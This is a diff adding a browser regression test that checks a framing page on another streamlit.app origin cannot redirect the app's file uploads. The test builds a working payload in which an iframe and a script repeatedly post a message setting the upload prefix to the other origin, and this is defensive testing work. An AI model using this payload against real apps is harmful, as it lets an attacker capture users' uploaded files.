@@ -14,6 +14,7 @@ import pytest
 from studio.stage import free_port, wait_for_health
 
 from app.texts import release as release_texts
+from app.texts import upload as upload_texts
 
 MAIN = "import sys, dpcore.cli; sys.exit(dpcore.cli.main())"
 
@@ -91,3 +92,28 @@ def test_a_page_of_another_site_cannot_have_a_budget_spent_by_a_click(
     page.goto(f"{address}/release")
     page.get_by_text("3 · Spend").wait_for(timeout=60_000)
     assert not page.get_by_text(release_texts.FRAMED).is_visible()
+
+
+def test_a_page_that_frames_the_explorer_cannot_have_uploads_sent_to_it(
+    server: Callable[..., str], new_page: Callable[..., Any]
+) -> None:
+    """Streamlit obeys pages of *.streamlit.app, where anybody may have one: the next file went to
+    whom they named."""
+    address, page, other = server(None), new_page(), "https://other.streamlit.app"
+    message = f"{{stCommVersion: 1, type: 'SET_FILE_UPLOAD_CLIENT_CONFIG', prefix: '{other}'}}"
+    frame = (
+        f'<iframe src="{address}/?data=upload" width="1200" height="900"></iframe><script>'
+        f"setInterval(() => frames[0].postMessage({message}, '*'), 50)</script>"
+    )
+    page.route(f"{other}/**", lambda way: way.fulfill(content_type="text/html", body=frame))
+    page.context.grant_permissions(["local-network-access"], origin=other)
+    page.goto(other)
+    inside = page.frame_locator("iframe")
+    inside.get_by_text(upload_texts.NOTHING_READ).wait_for(timeout=60_000)
+    page.wait_for_timeout(500)
+    with page.expect_request("**/_stcore/upload_file/**") as sent:
+        inside.locator("input[type=file]").first.set_input_files(
+            {"name": "people.csv", "mimeType": "text/csv", "buffer": b"age,pay\n40,1\n"}
+        )
+    page.context.clear_permissions()
+    assert sent.value.url.startswith(address)
